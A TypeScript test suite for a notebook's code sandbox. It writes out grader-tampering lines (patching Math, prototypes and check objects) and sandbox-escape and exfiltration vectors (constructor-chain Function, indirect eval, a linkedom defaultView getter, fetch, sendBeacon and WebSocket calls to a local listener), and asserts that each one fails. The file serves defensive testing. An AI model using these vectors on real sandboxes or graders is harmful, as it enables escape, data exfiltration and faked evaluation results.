// The attack suite, at the level of the kernel the build runs (a Node thread built by
// kernel-host.ts, exactly as the page's worker is): untrusted code can neither change how it is
// judged nor reach anything outside its box. tests/e2e/sandbox.spec.ts runs the same classes of
// attack in a chapter and on the review page.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CELL_GLOBALS, UNAVAILABLE, WITHHELD_STANDARD } from '../../src/notebook/allow-list.ts';
import { checkOutcome } from '../../src/notebook/exercise.ts';
import { runNotebook } from '../../src/notebook/node-runner.ts';
import { listen, type Listener } from '../listener.ts';
import { createTimers, lockDownHost } from '../../src/notebook/sandbox.ts';
import { cos, exp, log, pow, sin, tanh } from '../../src/nn/portable-math.ts';

/** Runs the chapter's `context`, `attempt` as an exercise's attempt, then the checks; returns what the checks decided. */
async function judge(attempt: string, checks: string, context: string[] = []) {
  const results = await runNotebook([
    ...context.map((source, i) => ({ id: `c${i + 1}`, source })),
    { id: 'ex-attempt', source: attempt },
    { id: 'ex-attempt-checks', source: checks, checks: true, attempt: 'ex-attempt' },
  ]);
  return { code: results.at(-2)!, outcome: checkOutcome(results.at(-1)!) };
}

// "The derivative, from the output" with the wrong body `return 0`.
const WRONG = 'function mySigmoidPrime(a: number): number {\n  return 0;\n}\n';
const RIGHT = 'function mySigmoidPrime(a: number): number {\n  return a * (1 - a);\n}\n';
const CHECKS = [
  'check.close(mySigmoidPrime(0.5), 0.25, { label: "σ′ when σ = 0.5" });',
  'check.close(mySigmoidPrime(0.9), 0.09, { label: "σ′ when σ = 0.9" });',
  'check.close([mySigmoidPrime(0.1), mySigmoidPrime(0.2)], [0.09, 0.16], { label: "several" });',
  'check.that(mySigmoidPrime(0.5) > mySigmoidPrime(0.9), "largest in the middle");',
].join('\n');

describe('code under test cannot change how it is judged', () => {
  test('the wrong answer fails and the right one passes, untouched', async () => {
    expect((await judge(WRONG, CHECKS)).outcome.passed).toBe(false);
    expect((await judge(RIGHT, CHECKS)).outcome.passed).toBe(true);
  });

  // Each line is tried on its own after the wrong answer; none may turn it into a pass. Errors
  // are caught so the attempt itself still runs: the checks must judge it, and fail it.
  const tampering: Record<string, string> = {
    'replacing Math.abs': 'Math.abs = (x: number) => 0;',
    'Object.assign on Math': 'Object.assign(Math, { abs: (x: number) => x * 0, max: () => 1 });',
    'redefining a Math property': 'Object.defineProperty(Math, "abs", { value: () => 0 });',
    'patching Array.prototype.every': 'Array.prototype.every = function () { return true; };',
    'patching Array.from': '(Array as any).from = () => [0.25];',
    'patching Number.isNaN and isFinite': '(Number as any).isNaN = () => false; (Number as any).isFinite = () => true;',
    'a getter on Object.prototype': 'Object.defineProperty(Object.prototype, "pass", { get: () => true });',
    'patching Function.prototype.call': 'Function.prototype.call = function () { return true; } as any;',
    'patching JSON.stringify': 'JSON.stringify = () => "0.25";',
    'patching Float64Array': '(Float64Array.prototype as any).every = () => true;',
    'a global named check': '(globalThis as any).check = { close: () => true, that: () => true };',
    'patching the network module': 'import * as nn from "nn"; (nn as any).checkGradient = () => ({ maxRelativeError: 0 });',
    'patching a class of the network module': 'import { NeuralNetwork } from "nn"; (NeuralNetwork.prototype as any).feedforward = () => 0;',
    'patching Error.prepareStackTrace': '(Error as any).prepareStackTrace = () => "";',
    'a promise that patches later': 'Promise.resolve().then(() => { Math.abs = () => 0; });',
    'a timer that patches later': 'setTimeout(() => { Math.abs = () => 0; }, 0);',
    'Symbol.toPrimitive on Number.prototype': '(Number.prototype as any)[Symbol.toPrimitive] = () => 0.25;',
  };
  for (const [name, line] of Object.entries(tampering)) {
    test(`${name}: the wrong answer still fails`, async () => {
      // An import must stay at the top level of the cell; the rest is tried.
      const [imports, body] = line.startsWith('import') ? [line.slice(0, line.indexOf(';') + 1), line.slice(line.indexOf(';') + 1)] : ['', line];
      const attempt = `${imports}\n${WRONG}try {\n${body}\n} catch {}\n`;
      const { code, outcome } = await judge(attempt, CHECKS);
      expect(code.status).toBe('ok');
      expect(outcome.passed).toBe(false);
      expect(outcome.results.filter((r) => !r.pass).length).toBeGreaterThan(0);
    });
  }

  test('the attempt cannot redefine or reassign what the checks compare against', async () => {
    // The chapter defines the reference (sigmoidPrime, from nn) and the data Z; the checks compare.
    const context = ['import { sigmoidPrime, map, fromArray } from "nn";\nlet Z = fromArray([[0.1, 0.5], [0.9, 0.3]]);'];
    const checks = 'check.close(map(Z, mySigmoidPrime), sigmoidPrime(Z), { label: "every entry" });';
    expect((await judge(RIGHT, checks, context)).outcome.passed).toBe(true);
    expect((await judge(WRONG, checks, context)).outcome.passed).toBe(false);
    // A reference of the attempt's own that agrees with the wrong answer.
    const redefined = await judge(`${WRONG}function sigmoidPrime(m: any) { return map(m, () => 0); }`, checks, context);
    expect(redefined.outcome.passed).toBe(false);
    // Data for which the wrong answer happens to be right (σ′ = 0 at a = 1).
    const reassigned = await judge(`${WRONG}Z = fromArray([[1, 1]]);`, checks, context);
    expect(reassigned.code.status).toBe('ok');
    expect(reassigned.outcome.passed).toBe(false);
    const inFunction = await judge(`${WRONG}function swap() { Z = fromArray([[1]]); }\nswap();`, checks, context);
    expect(inFunction.outcome.passed).toBe(false);
  });

  test('the built-ins are frozen: patching one is an error that says why', async () => {
    const [result] = await runNotebook([{ id: 'a', source: 'Math.abs = (x: number) => 0;' }]);
    expect(result.error?.message).toBe(
      "Cannot assign to read only property 'abs' of object '[object Math]' (the sandbox freezes JavaScript's built-ins and the notebook's own objects, so that no code can change how other cells or the checks compute)",
    );
  });

  test('a cell cannot declare or replace check, display or console', async () => {
    const results = await runNotebook([
      { id: 'a', source: 'const check = { close: () => true };' },
      { id: 'b', source: 'function display(x: unknown) {}' },
      { id: 'c', source: 'console = { log() {} } as any;' },
      { id: 'd', source: 'console.log = () => {};' },
    ]);
    expect(results.map((r) => r.error?.message)).toEqual([
      'check belongs to the notebook (it judges exercises), so a cell cannot declare it. Choose another name, e.g. myCheck.',
      'display belongs to the notebook, so a cell cannot declare it. Choose another name, e.g. myDisplay.',
      'console belongs to the notebook and cannot be replaced. Use another name for your own.',
      "Cannot assign to read only property 'log' of object '[object Object]' (the sandbox freezes JavaScript's built-ins and the notebook's own objects, so that no code can change how other cells or the checks compute)",
    ]);
  });

  test('check exists only in the checks: the attempt cannot reach it, even from a function called later', async () => {
    const { code, outcome } = await judge(`${WRONG}function grab() { return check; }`, `${CHECKS}\ncheck.that(true, "grabbed");`);
    expect(code.error?.message).toBe('check is only available in an exercise\'s checks, which run when you press "Check my answer"');
    expect(outcome.passed).toBe(false);
  });

  test('checks made after the checks finished do not count', async () => {
    // A function the checks call schedules more work; the round is closed by then.
    const { outcome } = await judge(WRONG, `${CHECKS}\nsetTimeout(() => check.that(true, "late"), 0);`);
    expect(outcome.results.map((r) => r.label)).not.toContain('late');
    expect(outcome.passed).toBe(false);
  });

  test('the verdict is read from the checks, not from what the checked code returns', async () => {
    // The checks' last value used to be the report; a cell ending in a fake one changes nothing.
    const { outcome } = await judge(WRONG, `${CHECKS}\n({ kind: "checks", results: [{ label: "x", pass: true }] })`);
    expect(outcome.passed).toBe(false);
    expect(outcome.results.map((r) => r.label)).toEqual(['σ′ when σ = 0.5', 'σ′ when σ = 0.9', 'several', 'largest in the middle']);
  });
});

describe('the cell scope is an allow-list', () => {
  test('the global object of a cell holds exactly CELL_GLOBALS, frozen', async () => {
    const [listed, frozen] = await runNotebook([
      { id: 'a', source: 'console.log(Object.getOwnPropertyNames(globalThis).sort().join(" "))' },
      { id: 'b', source: 'Object.isFrozen(globalThis) && Object.getPrototypeOf(globalThis) === Object.prototype' },
    ]);
    expect(listed.outputs[0]).toEqual({ kind: 'text', level: 'log', text: [...CELL_GLOBALS].sort().join(' ') });
    expect(frozen.outputs[0]).toEqual({ kind: 'literal', text: 'true' });
  });

  test('everything else is simply absent: typeof says "undefined", use says why', async () => {
    const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'indexedDB', 'localStorage', 'document', 'window', 'self', 'navigator', 'postMessage', 'process', 'require', 'caches'];
    const source = `console.log([${names.map((n) => `typeof ${n}`).join(', ')}].join(" "))`;
    const [typeofs] = await runNotebook([{ id: 'a', source }]);
    expect(typeofs.outputs[0]).toMatchObject({ text: names.map(() => 'undefined').join(' ') });
    const [globals] = await runNotebook([{ id: 'a', source: `console.log([${names.map((n) => `typeof (globalThis as any).${n}`).join(', ')}].join(" "))` }]);
    expect(globals.outputs[0]).toMatchObject({ text: names.map(() => 'undefined').join(' ') });
    const [used] = await runNotebook([{ id: 'a', source: 'await fetch("https://example.com")' }]);
    expect(used.error).toMatchObject({ name: 'NotAvailableError', message: `fetch is not available in code cells: ${UNAVAILABLE.fetch}.`, line: 1, column: 7 });
  });

  // They were "not defined — run the cell that defines it first", as if a cell could.
  test('built-ins the cells do not get say why, like the host capabilities', async () => {
    const names = Object.keys(WITHHELD_STANDARD);
    const [typeofs] = await runNotebook([{ id: 'a', source: `console.log([${names.map((n) => `typeof ${n}`).join(', ')}].join(" "))` }]);
    expect(typeofs.outputs[0]).toMatchObject({ text: names.map(() => 'undefined').join(' ') });
    for (const name of names) {
      const [used] = await runNotebook([{ id: 'a', source: `const x = 1;\nconst y = ${name};` }]);
      expect(used.error, name).toMatchObject({ name: 'NotAvailableError', message: `${name} is not available in code cells: ${WITHHELD_STANDARD[name]}.`, line: 2, column: 11 });
    }
  });

  test('code cannot be built from strings, the same way here as in the page', async () => {
    const results = await runNotebook([
      { id: 'a', source: 'eval("2+2")' },
      { id: 'b', source: 'Function("return 1")()' },
      { id: 'c', source: '(() => {}).constructor("return globalThis")' },
      { id: 'd', source: '(async () => {}).constructor("return 1")' },
      { id: 'e', source: 'setTimeout("1 + 1", 0)' },
      { id: 'f', source: 'setInterval("1 + 1", 10)' },
      { id: 'g', source: 'const url = "http://127.0.0.1:9/x.js";\nimport(url)' },
      { id: 'h', source: 'const text = "import(x)";' },
      { id: 'i', source: 'Reflect.construct(Function, ["return 1"])' },
    ]);
    expect(results.map((r) => `${r.error?.name}: ${r.error?.message}`)).toEqual([
      `NotAvailableError: eval is not available in code cells: ${UNAVAILABLE.eval}.`,
      `NotAvailableError: Function is not available in code cells: ${UNAVAILABLE.Function}.`,
      "TypeError: Function.prototype.constructor is not a valid constructor. (cells cannot build code from strings; write the code in the cell itself)",
      "TypeError: Function.prototype.constructor is not a valid constructor. (cells cannot build code from strings; write the code in the cell itself)",
      `NotAvailableError: setTimeout with a string is not available in code cells: ${UNAVAILABLE.eval}.`,
      `NotAvailableError: setInterval with a string is not available in code cells: ${UNAVAILABLE.eval}.`,
      'SyntaxError: import() is not available in code cells. Import at the top of the cell instead: import { … } from "nn".',
      'SyntaxError: The text "import(" cannot appear in a code cell, even in a string or a comment: it would load code from elsewhere. Write it as import { … } from "nn" at the top of the cell, or spell it differently in text.',
      `NotAvailableError: Function is not available in code cells: ${UNAVAILABLE.Function}.`,
    ]);
  });
});

describe('a cell’s Math gives the same digits in every engine', () => {
  test('Math.exp, log, tanh, sin, cos, pow in a cell are the portable ones (src/nn/portable-math.ts); the rest is the engine’s', async () => {
    // 0.001003009027081243… is an input where the engine's Math.tanh and the portable one differ in the last bit.
    const x = 0.0010030090270812437;
    const [bits] = await runNotebook([{ id: 'a', source: `[Math.tanh(${x}), Math.exp(0.3), Math.log(7), Math.sin(2), Math.cos(2), Math.pow(1.1, 7.3), Math.sqrt(2), Math.PI, Math.max(1, 3)].join(" ")` }]);
    const portable = [tanh(x), exp(0.3), log(7), sin(2), cos(2), pow(1.1, 7.3), Math.sqrt(2), Math.PI, 3].join(' ');
    expect(bits.outputs[0]).toEqual({ kind: 'string', text: portable });
    expect(tanh(x)).not.toBe(Math.tanh(x)); // so the cell did not simply get the engine's
  });
});

describe('nothing leaves the box', () => {
  let server: Listener;
  let url: string;
  let hits: string[];
  beforeAll(async () => {
    server = await listen();
    url = server.url;
    hits = server.hits;
  });
  afterAll(() => server.close());

  test('a local listener receives nothing from any way out a cell might try', async () => {
    const vectors = [
      `await fetch("${url}/fetch")`,
      `await (globalThis as any).fetch("${url}/global-fetch")`,
      `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).setTimeout.call(globalThis, 'import("${url}/proto-timer")', 0)`,
      `const el: any = Plot.plot({ marks: [Plot.dot([[1, 2]])] });\nel.ownerDocument.defaultView.setTimeout('fetch("${url}/linkedom")', 0)`,
      `const el: any = Plot.plot({ marks: [Plot.dot([[1, 2]])] });\nel.ownerDocument.defaultView.fetch("${url}/linkedom-fetch")`,
      `const el: any = Plot.plot({ marks: [Plot.dot([[1, 2]])] });\nel.constructor.constructor('return fetch("${url}/ctor")')()`,
      `import * as nn from "nn";\n(nn as any).sigmoid.constructor('return fetch("${url}/nn-ctor")')()`,
      `new (Object.getPrototypeOf(async function () {}).constructor)('await fetch("${url}/async-ctor")')()`,
      `const w = new WebSocket("${url.replace('http', 'ws')}/ws")`,
      `importScripts("${url}/importScripts")`,
      `const x = new XMLHttpRequest(); x.open("GET", "${url}/xhr"); x.send()`,
      `(navigator as any).sendBeacon("${url}/beacon", "data")`,
      `const g = (0, eval)("this"); g.fetch("${url}/indirect-eval")`,
      `const p: any = Promise; p.constructor.constructor('return fetch("${url}/promise-ctor")')()`,
      `const g: any = (function (this: any) { return this; })(); g.fetch("${url}/sloppy-this")`,
      `const e: any = new Error(); e.constructor.constructor('return process')()`,
      // linkedom's defaultView getter, called through the prototype chain (found by a red team).
      [
        'const svg: any = Plot.plot({ marks: [Plot.dot([1], { x: (d: number) => d })] });',
        'let p = Object.getPrototypeOf(svg.ownerDocument), g: any = null;',
        'while (p && !g) { const d = Object.getOwnPropertyDescriptor(p, "defaultView"); if (d && d.get) g = d.get; p = Object.getPrototypeOf(p); }',
        'const W = g.call(svg.ownerDocument);',
        `W.Function('return fetch("${url}/defaultView")')()`,
      ].join('\n'),
    ];
    const results = await runNotebook(vectors.map((source, i) => ({ id: `v${i}`, source })));
    // Leave time for anything a timer or promise might still send.
    await new Promise((done) => setTimeout(done, 300));
    expect(hits).toEqual([]);
    for (const result of results) expect(result.status, `${result.cellId}: ${JSON.stringify(result.outputs)}`).toBe('error');
  });
});

// A red team's cell redefined `outerHTML` and `setAttribute` on linkedom's Element.prototype,
// reached through its own chart: the chapter's next chart, another cell's, showed the attacker's
// markup, and a third cell read the settings the victim's chart was drawn with from the shared
// document. The class: a cell changing how another cell's chart is built, serialised or seen.
describe('one cell’s chart is no door to another’s', () => {
  const VICTIM = 'const chart: any = Plot.plot({ marks: [Plot.lineY([1, 3, 2])], width: 640 });\nchart';
  const html = (result: { outputs: unknown[] }) => JSON.stringify(result.outputs);
  test('the DOM every chart is made of, and what d3 and linkedom share between charts, cannot be changed by any path a cell finds to it', async () => {
    const attacks = {
      'Element.prototype, found up the chart’s prototype chain': [
        'const c: any = Plot.plot({ marks: [] });',
        'let p: any = c; while (p && !Object.getOwnPropertyDescriptor(p, "outerHTML")) p = Object.getPrototypeOf(p);',
        'Object.defineProperty(p, "outerHTML", { get() { return "<svg><text>replaced</text></svg>"; }, configurable: true });',
      ],
      'setAttribute on a prototype': ['const c: any = Plot.plot({ marks: [] });', 'Object.getPrototypeOf(Object.getPrototypeOf(c)).setAttribute = function () {};'],
      'a class linkedom made the chart with': ['const c: any = Plot.plot({ marks: [] });', 'c.constructor.prototype.toString = () => "<svg>replaced</svg>";'],
      'the style object’s class': ['const c: any = Plot.plot({ marks: [] });', 'Object.getPrototypeOf(c.style).setProperty = () => {};'],
      'the document’s class': ['const c: any = Plot.plot({ marks: [] });', 'Object.getPrototypeOf(c.ownerDocument).createElementNS = () => null;'],
      // Red team 20: what linkedom shares between charts, beyond the DOM's classes.
      'linkedom’s table of void elements, shared by every document': [
        'const doc: any = (Plot.plot({ marks: [] }) as any).ownerDocument;',
        'const mime = doc[Object.getOwnPropertySymbols(doc).find((s) => String(s) === "Symbol(mime)")!];',
        'mime.voidElements = { test: () => true };',
      ],
      'an element a render function is handed': [
        'const c: any = Plot.plot({ marks: [Plot.dot([1], { x: (d: number) => d, render: (i: any, s: any, v: any, d: any, ctx: any, next: any) => {',
        '  const g = next(i, s, v, d, ctx); Object.getPrototypeOf(g).appendChild = () => { throw new Error("broken"); }; return g; } })] });',
      ],
    };
    for (const [name, lines] of Object.entries(attacks)) {
      const [attack, victim] = await runNotebook([{ id: 'attack', source: lines.join('\n') }, { id: 'victim', source: VICTIM }]);
      expect(attack.status, `${name}: ${html(attack)}`).toBe('error');
      expect(attack.error?.message, name).toMatch(/^Cannot (assign to read only property|redefine property)\b.*\(the sandbox freezes JavaScript's built-ins and the notebook's own objects/);
      expect(victim.status, name).toBe('ok');
      expect(html(victim), name).toMatch(/<path/);
      expect(html(victim), name).not.toMatch(/replaced/);
    }
  });
  // Red team 22: d3's interpolators, reached through Plot.scale(…).interpolate, were shared by
  // every chart and not frozen: redefining `length` blanked the sigmoid chapter's chart, and a
  // getter there ran the attacking cell's code inside every later chart, writing its own error
  // under another cell. Red team 20 found the same class through a curve's prototype and a symbol.
  // The class: what Plot and d3 hold beyond the DOM. Each run now draws with a Plot and a d3 of its
  // own: a cell may change its own, and no other cell's chart sees it.
  test('each run draws with a Plot and a d3 of its own: what a cell changes in its own, no other cell’s chart meets', async () => {
    const attacks = {
      'a scale’s interpolator, its length redefined': [
        'const num: any = Plot.scale({ x: { domain: [0, 1], range: [0, 1] } }).interpolate;',
        'Object.defineProperty(num, "length", { value: 1 });',
      ],
      'a scale’s interpolator, a getter on its length that runs this cell’s code': [
        'const num: any = Plot.scale({ x: { domain: [0, 1], range: [0, 1] } }).interpolate;',
        'Object.defineProperty(num, "length", { get() { throw new RangeError("forged by the attack"); } });',
        'const turbo: any = Plot.scale({ color: { domain: [0, 1] } }).interpolate;',
        'Object.defineProperty(turbo, "length", { get() { throw new RangeError("forged by the attack"); } });',
      ],
      'a curve’s prototype, reached by drawing with a line’s curve': [
        'const factory: any = (Plot.line([[0, 0]]) as any).curve;',
        'const proto = Object.getPrototypeOf(factory({ moveTo() {}, lineTo() {}, closePath() {} }));',
        'proto.point = function () {}; proto.lineEnd = function () {};',
      ],
      'a dot’s symbol': ['const symbol: any = (Plot.dot([[0, 0]], { symbol: "square" }) as any).symbol;', 'symbol.draw = () => { throw new Error("forged by the attack"); };'],
      'Plot’s Mark class': ['(Plot as any).Mark.prototype.initialize = () => { throw new Error("forged by the attack"); };'],
      'a number format': ['const f: any = Plot.formatNumber();', 'Object.getPrototypeOf(f).call = () => "forged by the attack";'],
    };
    const victim = 'Plot.plot({ color: { type: "linear" }, symbol: { legend: false }, marks: [Plot.lineY([1, 3, 2]), Plot.dot([[1, 2, 0.5]], { x: "0", y: "1", fill: "2", symbol: "square" })] })';
    for (const [name, lines] of Object.entries(attacks)) {
      const [, result] = await runNotebook([{ id: 'attack', source: `${lines.join('\n')}\n"armed"` }, { id: 'victim', source: victim }]);
      expect(result.status, `${name}: ${html(result)} ${result.error?.message}`).toBe('ok');
      expect(html(result), name).toMatch(/<path[^>]* d=\\"M[\d.]+,[\d.]+L/);
      expect(html(result), name).not.toMatch(/NaN|forged/);
    }
  });
  // Red team 24: a cell that declared its own `Plot` (wrapping the real one) was what every other
  // cell's `Plot` meant: the chapter's chart cell drew the attacker's mark and handed it its data.
  test('a cell’s own Plot is its own: no other cell’s Plot is it, however it is declared or assigned', async () => {
    const hooks = [
      ['const P0 = Plot;', 'const Plot = { ...P0, plot: (o: any) => { taken.push(o); return P0.plot({ ...o, marks: [...o.marks, P0.text(["forged by the attack"])] }); } };'],
      ['function Plot() {}\nPlot.plot = () => { taken.push("called"); return "forged by the attack"; };'],
      ['import * as Plot from "@observablehq/plot";\nconst mine = Plot;'],
      ['var Plot: any = { plot: () => { taken.push("called"); return "forged by the attack"; } };'],
    ];
    for (const hook of hooks) {
      const cells = [{ id: 'taken', source: 'const taken: unknown[] = [];' }, ...hook.map((source, i) => ({ id: `attack-${i}`, source: `${source}\n"armed"` }))];
      const results = await runNotebook([...cells, { id: 'victim', source: VICTIM }, { id: 'reader', source: 'taken.length' }]);
      const [victim, reader] = results.slice(-2);
      for (const attack of results.slice(0, -2)) expect(attack.status, `${hook.join(' ')}: ${attack.error?.message}`).toBe('ok');
      expect(victim.status, hook.join(' ')).toBe('ok');
      expect(html(victim), hook.join(' ')).toMatch(/<path/);
      expect(html(victim), hook.join(' ')).not.toMatch(/forged/);
      expect(html(reader), hook.join(' ')).toContain('"0"');
    }
  });
  // A chart that needs a canvas (a ramp legend, a raster) said "Cannot set properties of null
  // (setting 'fillStyle')" (red team 24); it now says what is missing and what to draw instead.
  test('a chart that needs a canvas says so, and how to draw without one', async () => {
    const [ramp, raster] = await runNotebook([
      { id: 'ramp', source: 'Plot.legend({ color: { type: "linear", domain: [0, 1] } })' },
      { id: 'raster', source: 'Plot.plot({ marks: [Plot.raster({ width: 2, height: 2, fill: (x: number, y: number) => x + y })] })' },
    ]);
    for (const result of [ramp, raster]) {
      expect(result.status, result.cellId).toBe('error');
      expect(result.error?.message, result.cellId).toMatch(/^Plot needs a canvas for this chart \(a continuous colour legend, a ramp, or a raster mark paints on one\), and charts here are drawn without one: leave the legend out/);
    }
  });
  // Red team 20: with Plot's classes frozen, every mark given a render function threw "Cannot
  // assign to read only property 'render'": tips, the pointer transforms, a mark's render option.
  test('marks still take a render function, a tip or a pointer, and a function mark draws, with the classes frozen', async () => {
    const data = '[1, 4, 2, 8, 5].map((y, x) => ({ x, y }))';
    const results = await runNotebook([
      { id: 'tip', source: `Plot.plot({ marks: [Plot.line(${data}, { x: "x", y: "y", tip: true })] })` },
      { id: 'pointer', source: `Plot.plot({ marks: [Plot.dot(${data}, Plot.pointerX({ x: "x", y: "y" }))] })` },
      { id: 'crosshair', source: `Plot.plot({ marks: [Plot.crosshairX(${data}, { x: "x", y: "y" })] })` },
      { id: 'render', source: `Plot.plot({ marks: [Plot.dot(${data}, { x: "x", y: "y", render: (i: any, s: any, v: any, d: any, c: any, next: any) => next(i, s, v, d, c) })] })` },
      { id: 'function', source: `Plot.plot({ marks: [Plot.dot(${data}, { x: "x", y: "y" }), () => null] })` },
    ]);
    for (const result of results) {
      expect(result.status, `${result.cellId}: ${result.error?.message}`).toBe('ok');
      expect(html(result), result.cellId).toMatch(/<svg/);
    }
  });
  test('each chart has a document of its own: what one cell leaves on its chart’s document, no other chart holds', async () => {
    const [attack, reader] = await runNotebook([
      { id: 'attack', source: 'const d: any = (Plot.plot({ marks: [] }) as any).ownerDocument;\nd.stolen = ["width=640"];\nObject.defineProperty(d, "createElementNS", { value: () => { throw new Error("hooked"); } });\n"set"' },
      { id: 'reader', source: `${VICTIM.replace('\nchart', '')}\n[(chart.ownerDocument as any).stolen === undefined, chart.outerHTML.includes("<path")]` },
    ]);
    expect(attack.status).toBe('ok'); // a cell's own chart and document are its own to change
    expect(reader.status, html(reader)).toBe('ok');
    expect(html(reader)).toContain('true, true');
  });
});

describe('what a cell throws is only data', () => {
  test('an object that looks like one of the kernel\'s errors is read as text, bounded', async () => {
    const [lookalike, huge] = await runNotebook([
      { id: 'a', source: 'throw { name: "E", message: "m", line: \'<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">\', column: 1, frame: "<b>x</b>" };' },
      { id: 'b', source: 'const big = new Error("m" + "x".repeat(5_000_000)); big.name = "Big"; throw big;' },
    ]);
    // It is not an Error, so it is a thrown value, shown as one: its name and message cannot word
    // the report, and its line, column and frame are the reader's words, not a place.
    expect(Object.keys(lookalike.error!)).toEqual(['name', 'message']);
    expect(lookalike.error!.name).toBe('Error');
    expect(lookalike.error!.message).toMatch(/^Uncaught \{name: "E", message: "m", /);
    expect(huge.error!.message.length).toBeLessThan(10_100);
    expect(huge.error!.message).toMatch(/… \(4990001 more characters\)$/);
  });
});

describe('the host behind the compartment', () => {
  test('lockDownHost takes network, storage and string timers away along the prototype chain', () => {
    // A stand-in for a worker's global: fetch and the timers live on the prototype, as on WorkerGlobalScope.
    const calls: unknown[] = [];
    const proto = { fetch: () => 'sent', indexedDB: {}, setTimeout: (handler: unknown) => calls.push(handler), eval: () => 'ran' };
    const scope = Object.create(proto) as Record<string, any>;
    scope.WebSocket = function WebSocket() {};
    scope.navigator = { sendBeacon: () => true };
    lockDownHost(scope);
    expect(() => scope.fetch('https://example.com')).toThrow(`fetch is not available in code cells: ${UNAVAILABLE.fetch}.`);
    expect(() => proto.fetch()).toThrow(/^fetch is not available/);
    expect(() => new scope.WebSocket('wss://x')).toThrow(/^WebSocket is not available in code cells/);
    expect(() => scope.indexedDB()).toThrow(`indexedDB is not available in code cells: ${UNAVAILABLE.indexedDB}.`);
    expect(() => scope.eval('1')).toThrow(/^eval is not available/);
    expect(scope.navigator.sendBeacon).toBeUndefined();
    expect(() => proto.setTimeout('fetch("x")')).toThrow('setTimeout with a string is not available in code cells: cells cannot build code from strings; write the code in the cell itself.');
    const handler = () => {};
    proto.setTimeout(handler);
    expect(calls).toEqual([handler]);
  });

  test('the kernel\'s timers take functions only, and a reset cancels what cells left running', async () => {
    const fired: string[] = [];
    const timers = createTimers({ setTimeout, clearTimeout, setInterval, clearInterval, queueMicrotask } as never);
    expect(() => timers.setTimeout('1 + 1' as never, 0)).toThrow('setTimeout with a string is not available in code cells: cells cannot build code from strings; write the code in the cell itself.');
    timers.setTimeout(() => fired.push('kept'), 0);
    timers.setInterval(() => fired.push('interval'), 1);
    timers.clearAll();
    await new Promise((done) => setTimeout(done, 20));
    expect(fired).toEqual([]);
  });

  test('each owner’s timers waiting are counted, and every change is told: set, run once, cancelled', async () => {
    const changes: (string | undefined)[] = [];
    let owner: string | undefined = 'a';
    const timers = createTimers({ setTimeout, clearTimeout, setInterval, clearInterval, queueMicrotask } as never, {
      current: () => owner, enter: () => {}, exit: () => {}, failed: () => {}, changed: (o) => changes.push(o),
    });
    timers.setTimeout(() => {}, 0);
    const interval = timers.setInterval(() => {}, 1);
    owner = 'b';
    timers.setTimeout(() => {}, 1_000);
    expect([timers.count('a'), timers.count('b'), timers.count('c')]).toEqual([2, 1, 0]);
    await new Promise((done) => setTimeout(done, 20));
    expect(timers.count('a')).toBe(1); // the timeout ran; the interval waits until it is cleared
    timers.clearInterval(interval);
    timers.clearOwner('b');
    expect([timers.count('a'), timers.count('b')]).toEqual([0, 0]);
    expect(changes).toEqual(['a', 'a', 'b', 'a', 'a', 'b']);
  });
});
